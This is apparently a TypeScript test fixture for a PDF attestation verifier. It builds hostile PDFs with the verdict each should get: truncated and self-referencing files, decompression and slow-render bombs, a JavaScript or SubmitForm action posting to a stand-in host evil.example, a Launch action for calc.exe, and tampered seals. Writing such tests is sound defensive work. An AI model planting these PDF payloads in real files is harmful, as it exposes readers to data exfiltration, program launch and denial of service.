import { deflateSync } from 'node:zlib';
import { attestationQr, createQr, type QrCode, qrPng } from '@prova/paper';
import { PDFDocument } from '../../../src/pdf-lib.ts';
import { ATTACKS } from '../../../src/witness/attacks/attacks.ts';
import { objectSaying, revised } from '../../../src/witness/attacks/pdf-bytes.ts';
import { CODE, OTHER_CODE, OTHER_TOKEN, TOKEN } from './documents.ts';
import type { Row } from './hostile-pictures.ts';
import { catalog, EMPTY_PAGES, packedPdf, rawPdf, stream } from './raw-pdf.ts';
import { printedPage, sealedPage } from './sealed-page.ts';

const ours = attestationQr('prc', CODE);
const another = attestationQr('prc', OTHER_CODE);
const menu = createQr('HTTPS://MENU.EXAMPLE/TABLE/7', { level: 'M' });
const printed = await printedPage(TOKEN);
const sealed = await sealedPage(TOKEN, 'belgian');
const prey = { file: sealed, otherToken: OTHER_TOKEN, folder: '' };

const accepted = (code: Row['code'] = 'names-not-compared') =>
  ({ verdict: 'accepted', code }) as const;
const unread = (code: NonNullable<Row['code']>) => ({ verdict: 'not-judged', code }) as const;
const shows = (file: Uint8Array | undefined) => ({ file: file ?? new Uint8Array() });

const LOCK = `<${'5A'.repeat(32)}>`;
const ID = '<00112233445566778899AABBCCDDEEFF>';

/** Pages with a fault that is found at once. */
export const HOSTILE_PAGES: readonly Row[] = [
  { what: 'P01 ten octets', shown: shows(Buffer.from('%PDF-1.7\n ')), ...unread('pdf-malformed') },
  {
    what: 'P01 half a file',
    shown: shows(ATTACKS['cut in the middle'](prey)),
    ...unread('pdf-malformed'),
  },
  {
    what: 'P01 rubbish',
    shown: shows(Buffer.from(`%PDF-1.7\n${'rubbish '.repeat(100)}`)),
    ...unread('pdf-malformed'),
  },
  { what: 'P01 locked', shown: shows(locked()), ...unread('pdf-encrypted') },
  {
    what: 'P01 60 MB of nothing',
    shown: { head: '%PDF-1.7\n', blanks: 60_000_000 },
    ...unread('file-too-large'),
  },
  {
    what: 'P01 60 MB of text',
    shown: { head: 'NCF', blanks: 60_000_000 },
    ...unread('file-too-large'),
  },
  { what: 'P01 nothing at all', shown: shows(new Uint8Array()), ...unread('inflate-malformed') },
  {
    what: 'P02 a page tree that holds itself',
    shown: shows(rawPdf([catalog(), '<< /Type /Pages /Kids [2 0 R] /Count 3 >>'])),
    ...unread('pdf-malformed'),
  },
  {
    what: 'P02 a name tree that holds itself',
    shown: shows(
      rawPdf([catalog('/Names << /EmbeddedFiles 4 0 R >>'), ...EMPTY_PAGES, '<< /Kids [4 0 R] >>']),
    ),
    ...unread('attachment-unreadable'),
  },
  {
    what: 'P02 a table that leads back to itself',
    shown: shows(rawPdf([catalog(), ...EMPTY_PAGES], '/Prev START')),
    ...unread('qr-not-found'),
  },
  {
    what: 'P02 a million places for objects',
    shown: shows(packedPdf({ entries: 1_000_000 })),
    ...unread('qr-not-found'),
  },
  { what: 'P02 a form that draws itself', shown: shows(endlessForm()), ...unread('qr-not-found') },
  {
    what: 'P03 a script that runs when it is opened',
    shown: shows(await withScript()),
    ...accepted('pdf-active-content'),
  },
  {
    what: 'P03 a program to be launched',
    shown: shows(withAction('/S /Launch /F (calc.exe)')),
    ...accepted('pdf-active-content'),
  },
  {
    what: 'P03 an address to be opened, and a form to be sent there',
    shown: shows(withAction('/S /SubmitForm /F (https://evil.example/)')),
    ...accepted(),
  },
  {
    what: 'P03 a picture that lies elsewhere',
    shown: shows(remotePicture()),
    ...unread('qr-not-found'),
  },
  {
    what: 'P04 drawn over after the seal',
    shown: shows(ATTACKS['drawn over by an update'](prey)),
    ...accepted('pdf-modified'),
  },
  {
    what: 'P04 a hidden layer after the seal',
    shown: shows(ATTACKS['a hidden layer by an update'](prey)),
    ...accepted('pdf-modified'),
  },
  {
    what: 'P05 one octet changed',
    shown: shows(ATTACKS['one octet changed'](prey)),
    ...accepted('pdf-seal-invalid'),
  },
  {
    what: 'P05 the signature changed',
    shown: shows(ATTACKS['the signature changed'](prey)),
    ...accepted('pdf-seal-invalid'),
  },
  {
    what: 'P05 the seal of another institution',
    shown: shows(await sealedPage(TOKEN, 'german')),
    ...accepted('pdf-seal-foreign'),
  },
  {
    what: 'P06 another attachment',
    shown: shows(ATTACKS['another attachment by an update'](prey)),
    verdict: 'rejected',
    code: 'pdf-qr-mismatch',
  },
  {
    what: 'P06 the code of another',
    shown: shows(await page([another], TOKEN)),
    verdict: 'rejected',
    code: 'pdf-qr-mismatch',
  },
  {
    what: 'P07 the page of another',
    shown: shows(await page([ours], TOKEN, 'Peeters Jan 01/01/1990')),
    ...accepted('pdf-text-mismatch'),
  },
  { what: 'P08 two codes', shown: shows(await page([ours, another])), ...unread('qr-ambiguous') },
  {
    what: 'P08 ours, and the code of a restaurant',
    shown: shows(await page([menu, ours])),
    ...accepted(),
  },
  {
    what: 'P08 that of a restaurant over our attachment',
    shown: shows(await page([menu], TOKEN)),
    ...accepted('qr-foreign'),
  },
  {
    what: 'P08 an attachment and no code',
    shown: shows(await page([], TOKEN)),
    ...accepted('qr-not-found'),
  },
  { what: 'as it was printed', shown: shows(printed), ...accepted() },
  { what: 'as it was sealed', shown: shows(sealed), ...accepted() },
];

/** Pages that keep whoever reads them busy; those that are read in time are read right. */
export const SLOW_PAGES: readonly Row[] = [
  {
    what: 'P02 60 MB in an object stream',
    shown: shows(packedPdf({ blanks: 60_000_000 })),
    ...unread('qr-not-found'),
    or: unread('time-limit'),
  },
  {
    what: 'P02 a page that is painted over three hundred thousand times',
    shown: shows(paintedOver(300_000)),
    ...unread('time-limit'),
  },
];

function locked(): Buffer {
  const lock = `<< /Filter /Standard /V 1 /R 2 /O ${LOCK} /U ${LOCK} /P -4 >>`;
  return rawPdf([catalog(), ...EMPTY_PAGES, lock], `/Encrypt 4 0 R /ID [${ID} ${ID}]`);
}

function endlessForm(): Buffer {
  return rawPdf([
    catalog(),
    EMPTY_PAGES[0],
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 50 50] /Resources 5 0 R /Contents 4 0 R >>',
    stream('/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources 5 0 R', Buffer.from('/X Do')),
    '<< /XObject << /X 4 0 R >> >>',
  ]);
}

/** The page with a script of the document, which runs where anybody runs it. */
async function withScript(): Promise<Uint8Array> {
  const document = await PDFDocument.load(printed);
  document.addJavaScript('hit', 'app.alert("hit"); this.submitForm("https://evil.example/");');
  return document.save();
}

/** The page with something that shall happen when it is opened. */
function withAction(action: string): Buffer {
  const root = objectSaying(printed, '/Type /Catalog');
  const body = root.body.replace('/Type /Catalog', `/Type /Catalog /OpenAction << ${action} >>`);
  return revised(printed, [{ ...root, body }]);
}

function remotePicture(): Buffer {
  const file = '/F << /FS /URL /F (https://evil.example/x.jpg) >> /FFilter /DCTDecode';
  return rawPdf([
    catalog(),
    EMPTY_PAGES[0],
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >> /Contents 4 0 R >>',
    stream('', Buffer.from('/X Do')),
    stream(
      `/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 ${file}`,
      new Uint8Array(),
    ),
  ]);
}

/** A page with these codes, with a token attached, and with something written on it. */
async function page(codes: readonly QrCode[], token?: string, words?: string): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const sheet = document.addPage([350, 50 + 300 * Math.max(1, codes.length)]);
  for (const [index, code] of codes.entries()) {
    const picture = await document.embedPng(qrPng(code, 4));
    sheet.drawImage(picture, { x: 50, y: 50 + 300 * index, width: 250, height: 250 });
  }
  if (words !== undefined) sheet.drawText(words, { x: 50, y: 20 });
  if (token !== undefined) await document.attach(Buffer.from(token), 'credential.jws');
  return document.save();
}

/** A small file that takes long to draw, and holds nothing. */
function paintedOver(times: number): Buffer {
  const shade = '/S gs 0 0 500 700 re f\n';
  const data = deflateSync(Buffer.from(shade.repeat(times)));
  return rawPdf([
    catalog(),
    EMPTY_PAGES[0],
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 500 700] /Resources << /ExtGState << /S << /ca 0.01 /BM /Luminosity >> >> >> /Contents 4 0 R >>',
    stream('/Filter /FlateDecode', data),
  ]);
}
